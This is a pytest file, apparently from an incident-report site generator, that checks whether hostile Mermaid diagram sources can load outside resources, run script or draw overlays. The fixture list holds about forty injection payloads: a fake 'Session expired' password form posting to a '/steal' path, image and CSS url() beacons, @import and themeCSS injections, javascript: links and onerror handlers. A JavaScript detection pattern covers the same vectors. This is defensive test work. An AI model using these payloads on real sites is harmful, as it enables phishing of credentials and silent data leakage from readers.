"""A diagram's source is text of a stranger: whatever it asks for, nothing leaves the page and nothing but a drawing is in it."""

from __future__ import annotations

import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import ClassVar

import pytest

from tests.conftest import ID, RECORD, Make, build, served

FENCES = [
    "flowchart TD\n A[\"<form action='{0}/steal' method=post>Session expired <input type=password name=p><button>Sign in</button></form>\"] --> B",
    "flowchart TD\n A[\"<img src='{0}/a'>\"] --> B",
    "stateDiagram-v2\n s1: <img src='{0}/b'>\n s1 --> s2",
    "block-beta\n a[\"<img src='{0}/c'>\"]",
    "kanban\n Todo\n  a[\"<img src='{0}/d'>\"]",
    "flowchart TD\n A[\"`**x** <img src='{0}/e'>`\"] --> B",
    'flowchart TD\n A@{{ img: "{0}/f", label: "x", w: 60, h: 60 }}',
    "flowchart TD\n A[\"<div style='background:url({0}/g)'>x</div>\"] --> B",
    '%%{{init: {{"themeCSS": ".node rect {{ fill: url({0}/h) }}"}}}}%%\nflowchart TD\n A --> B',
    "flowchart TD\n A[\"<video src='{0}/i'></video><audio src='{0}/j'></audio><picture><source srcset='{0}/k'><img></picture>\"]",
    "flowchart TD\n A[\"<svg><image href='{0}/l'/></svg>\"] --> B",
    "flowchart TD\n A --> B\n style A fill:url({0}/m)",
    "flowchart TD\n A --> B\n classDef x fill:url({0}/n),background-image:url({0}/n2)\n class A x",
    "flowchart TD\n A --> B\n linkStyle 0 stroke:url({0}/o)",
    '---\nconfig:\n  themeCSS: ".node rect {{ background-image: url({0}/p) }}"\n---\nflowchart TD\n A --> B',
    '%%{{init: {{"fontFamily": "x; }} @import url({0}/q); .a {{"}}}}%%\nflowchart TD\n A --> B',
    '%%{{init: {{"themeVariables": {{"primaryColor": "url({0}/r)", "fontFamily": "a;}} * {{ background: url({0}/r) }} b {{"}}}}}}%%\nflowchart TD\n A --> B',
    "classDiagram\n class A[\"<img src='{0}/s'>\"]\n A : <img src='{0}/s2'>",
    "sequenceDiagram\n participant A as <img src='{0}/t'>\n A->>A: <img src='{0}/t2'>",
    "mindmap\n root((<img src='{0}/u'>))\n  ::icon(fa fa-book)\n  b[\"<img src='{0}/u2'>\"]",
    "erDiagram\n \"<img src='{0}/v'>\" ||--o{{ B : \"<img src='{0}/v2'>\"",
    "journey\n title <img src='{0}/w'>\n section <img src='{0}/w'>\n  <img src='{0}/w'>: 5: Me",
    "timeline\n title <img src='{0}/x'>\n 2020 : <img src='{0}/x'>",
    "pie title <img src='{0}/y'>\n \"<img src='{0}/y'>\" : 5",
    "gitGraph\n commit id: \"<img src='{0}/z'>\"",
    "C4Context\n Person(a, \"<img src='{0}/aa'>\", \"x\", $sprite=\"{0}/aa\")",
    "architecture-beta\n group api(cloud)[API]\n service db(\"{0}/bb\")[Database] in api",
    "quadrantChart\n title <img src='{0}/cc'>\n <img src='{0}/cc'>: [0.3, 0.6]",
    "requirementDiagram\n requirement a {{\n id: 1\n text: \"<img src='{0}/dd'>\"\n }}",
    "flowchart TD\n A[\"&lt;img src='{0}/ee'&gt; #lt;img src='{0}/ee'#gt; #60;img src='{0}/ee'#62;\"] --> B",
    "flowchart TD\n A[\"<a href='{0}/ff' ping='{0}/ff'>x</a><a href='javascript:alert(1)'>y</a>\"] --> B\n click B \"javascript:alert(1)\"",
    "flowchart TD\n A[\"<link rel=stylesheet href='{0}/gg'><meta http-equiv=refresh content='0;url={0}/gg'><base href='{0}/'>\"]",
    "flowchart TD\n A[\"<iframe src='{0}/hh'></iframe><object data='{0}/hh'></object><embed src='{0}/hh'>\"]",
    "flowchart TD\n A[\"<style>* {{ background: url({0}/ii) }}</style><div style='position:fixed;inset:0'>over all</div>\"]",
    "flowchart TD\n A[\"<b style='background:u\\72l({0}/jj)'>x</b><b style='background:image-set(\\\"{0}/jj\\\" 1x)'>x</b>\"]",
    "flowchart TD\n A[\"<math><mtext><img src='{0}/kk'></mtext></math><svg><use href='{0}/kk#a'/><feImage href='{0}/kk'/></svg>\"]",
    "flowchart TD\n A[\"<img src=x onerror=alert(1)><details open ontoggle=alert(1)>x</details>\"]",
    "xychart-beta\n title \"<img src='{0}/ll'>\"\n x-axis [a]\n line [1]",
    "sankey-beta\n <img src='{0}/mm'>,B,5",
    "packet-beta\n 0-15: \"<img src='{0}/nn'>\"",
]  # fmt: skip


class Elsewhere(BaseHTTPRequestHandler):
    asked: ClassVar[list[str]] = []

    def do_GET(self) -> None:
        self.asked.append(self.path)
        self.send_response(200)
        self.end_headers()

    do_POST = do_GET  # noqa: N815

    def log_message(self, *args: object) -> None:
        """Say nothing."""


@pytest.fixture
def elsewhere() -> Iterator[str]:
    server = ThreadingHTTPServer(("127.0.0.1", 0), Elsewhere)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    Elsewhere.asked = []
    yield f"http://127.0.0.1:{server.server_port}"
    server.shutdown()
    server.server_close()


FOUND = """() => [...document.querySelectorAll('.calm-story .calm-diagram__drawing, .calm-workshop')].flatMap(drawing =>
  [...drawing.querySelectorAll('*')].flatMap(e => [
    ...(/^(form|input|button|img|image|video|audio|source|iframe|object|embed|link|meta|base|script|feimage|picture|details)$/i.test(e.localName) ? [e.outerHTML] : []),
    ...[...e.attributes].filter(a => /^on/i.test(a.name) || /url\\(\\s*['"]?(?!#)[^'")#]/i.test(a.value) || /javascript:/i.test(a.value)
       || (/href$/.test(a.name) && e.localName !== 'a' && !a.value.startsWith('#')) || /position\\s*:\\s*fixed/.test(a.value)).map(a => `${e.localName} ${a.name}=${a.value}`),
    ...(e.localName === 'style' && /url\\(\\s*['"]?(?!#)[^'")#]|@import/i.test(e.textContent) ? [e.textContent.slice(0, 200)] : []),
  ])).concat(document.adoptedStyleSheets.flatMap(sheet => [...sheet.cssRules].map(rule => rule.cssText).filter(text => /url\\(\\s*['"]?(?!#)[^'")#]|@import/i.test(text))))"""


def test_no_source_of_a_diagram_asks_anybody_or_brings_more_than_a_drawing(
    make: Make, chromium, elsewhere, tmp_path_factory
):
    story = "".join(f"\n```mermaid\n{fence.format(elsewhere)}\n```\n" for fence in FENCES)
    site = build(make({f"incidents/{ID}.md": f"{RECORD}\n## More\n{story}"}), tmp_path_factory.mktemp("s"))
    ran: list[str] = []
    context = chromium.new_context()
    with served(site) as address:
        page = context.new_page()
        page.on("pageerror", lambda error: ran.append(str(error)))
        page.on("dialog", lambda dialog: (ran.append(dialog.message), dialog.dismiss()))
        page.goto(f"{address}incidents/{ID}/")
        page.wait_for_function("document.documentElement.dataset.calmDiagrams === 'done'")
        states = page.eval_on_selector_all(".calm-story .calm-diagram", "all => all.map(f => f.dataset.calmState)")
        assert len(states) == len(FENCES) and set(states) <= {"drawn", "failed"}
        assert states.count("drawn") >= 25, dict(zip(states, FENCES, strict=True))
        assert page.evaluate(FOUND) == []
        assert Elsewhere.asked == []  # what the frame's policy stops is announced by the browser, but reaches nobody
        assert page.locator(".calm-workshop").count() == 0
        assert ran == []
    context.close()


def test_a_cause_map_with_more_arrows_than_anybody_follows_is_a_list(make: Make, open_page, tmp_path_factory):
    factors = "".join(
        f"  - {{id: f{n}, kind: process, what: W, leads_to: [{', '.join(f'f{m}' for m in range(n + 1, 40)) or 'impact'}]}}\n"
        for n in range(40)
    )
    begin, end = RECORD.index("factors:"), RECORD.index("actions:")
    record = RECORD[:begin] + "factors:\n" + factors + RECORD[RECORD.index("---", end) :]
    site = build(make({f"incidents/{ID}.md": record}), tmp_path_factory.mktemp("s"))
    with served(site) as address:
        page = open_page(f"incidents/{ID}/", address=address)
        assert page.eval_on_selector_all(".calm-diagram", "all => all.map(f => f.dataset.calmState)") == ["drawn"]
        assert page.inner_text("#why-it-could-happen + *")


@pytest.mark.parametrize("fragment", ["100%", "%E0%A4%A", "%", "%%%", "brief%"])
def test_an_address_that_was_cut_stops_nothing(fragment, open_page):
    page = open_page(f"incidents/{ID}/#{fragment}")
    assert page.locator(".calm-diagram svg").count() >= 2
